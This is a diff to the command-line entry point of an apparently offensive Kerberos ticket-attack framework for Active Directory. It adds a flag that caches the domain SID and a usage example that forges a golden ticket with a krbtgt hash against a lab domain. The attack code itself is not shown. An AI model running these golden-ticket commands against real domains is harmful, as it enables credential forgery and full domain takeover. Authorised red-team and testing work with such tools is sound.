@@ -20,12 +20,21 @@ Examples:
     # Full workflow
     python -m ticket_framework -d corp.local --dc 10.10.10.1 \\
         --full -u admin -p 'Password1' --krbtgt-hash <HASH>
+
+    # Domain SID from the shared directory cache (14-ad-enumeration/)
+    PYTHONPATH=../14-ad-enumeration python -m ticket_framework -d corp.local \\
+        --dc 10.10.10.1 --golden -u Administrator --krbtgt-hash <HASH> --cache
 """
 
 import argparse
 
 from .core.framework import TicketAttackFramework
 
+try:
+    from rt_directory_cache import DirectoryCache
+except ImportError:
+    DirectoryCache = None
+
 
 def main():
     parser = argparse.ArgumentParser(
@@ -40,6 +49,10 @@ def main():
     parser.add_argument("-H", "--hash", default="", help="NTLM hash")
     parser.add_argument("--aes-key", default="", help="AES256 key")
     parser.add_argument("-o", "--output", default="ticket_attacks", help="Output directory")
+    parser.add_argument(
+        "--cache", nargs="?", const="", metavar="PATH",
+        help="Reuse/store the domain SID in the shared directory cache (optional cache file)",
+    )
 
     # Attack modes
     attack = parser.add_mutually_exclusive_group(required=True)
@@ -61,8 +74,14 @@ def main():
 
     args = parser.parse_args()
 
+    cache = None
+    if args.cache is not None:
+        if DirectoryCache is None:
+            parser.error("--cache needs rt_directory_cache (add 14-ad-enumeration/ to PYTHONPATH)")
+        cache = DirectoryCache(args.cache or None)
+
     framework = TicketAttackFramework(
-        domain=args.domain, dc_ip=args.dc, output_dir=args.output
+        domain=args.domain, dc_ip=args.dc, output_dir=args.output, cache=cache
     )
 
     if args.domain_sid: